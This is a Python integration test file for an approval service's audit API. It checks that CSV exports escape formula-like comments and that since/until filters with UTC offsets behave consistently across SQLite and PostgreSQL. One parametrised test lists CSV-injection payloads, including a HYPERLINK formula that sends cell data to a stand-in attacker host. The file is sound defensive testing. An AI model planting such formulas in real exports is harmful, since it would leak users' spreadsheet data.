"""The approver's audit on SQLite and PostgreSQL: the CSV export is safe to open in a spreadsheet (OWASP's CSV
injection rule), and since/until with any UTC offset mean the same instant on both databases."""

from __future__ import annotations

import csv
import io
from datetime import timedelta, timezone

import pytest

from shared.events import utcnow
from tests.integration.test_approver_api import api, approver, decision, pending_request

__all__ = ["api", "approver"]


@pytest.mark.parametrize("comment", ['=HYPERLINK("http://evil.example/?"&A1,"see")', "+1+2", "-2+3", "@SUM(A1:A9)",
                                     "\tcmd", "\rcmd"])
async def test_the_csv_export_writes_formula_like_cells_as_text(approver, api, comment):
    approval_id = await pending_request(approver)
    assert (await decision(api, approval_id, "lee", comment=comment)).status_code == 200
    response = await api.get("/v1/audit", params={"approval_id": approval_id, "format": "csv"})
    [vote] = [r for r in csv.DictReader(io.StringIO(response.text)) if r["action"] == "vote"]
    assert vote["reason"] == f"'{comment}"
    assert (await api.get("/v1/audit", params={"approval_id": approval_id})).json()[1]["reason"] == comment  # JSON: as sent


async def test_a_plain_comment_is_exported_as_it_is(approver, api):
    approval_id = await pending_request(approver)
    await decision(api, approval_id, "lee", comment="looks good; auc 0.93")
    response = await api.get("/v1/audit", params={"approval_id": approval_id, "format": "csv"})
    assert [r["reason"] for r in csv.DictReader(io.StringIO(response.text)) if r["action"] == "vote"] == ["looks good; auc 0.93"]


@pytest.mark.parametrize("hours", [-5, 5, 9])
async def test_since_and_until_with_an_offset_mean_the_same_instant_on_every_database(approver, api, hours):
    approval_id = await pending_request(approver)
    entries = (await api.get("/v1/audit", params={"approval_id": approval_id})).json()
    assert entries
    zone = timezone(timedelta(hours=hours))
    just_before, just_after = (utcnow() - timedelta(minutes=10)).astimezone(zone), (utcnow() + timedelta(minutes=10)).astimezone(zone)

    def ids(**params):
        return api.get("/v1/audit", params={"approval_id": approval_id, **{k: v.isoformat() for k, v in params.items()}})

    assert [e["id"] for e in (await ids(since=just_before)).json()] == [e["id"] for e in entries]
    assert (await ids(since=just_after)).json() == []
    assert (await ids(until=just_before)).json() == []
    assert len((await ids(since=just_before, until=just_after)).json()) == len(entries)
    requests = await api.get("/v1/audit/requests", params={"since": just_after.isoformat()})
    assert requests.status_code == 200 and requests.json() == []
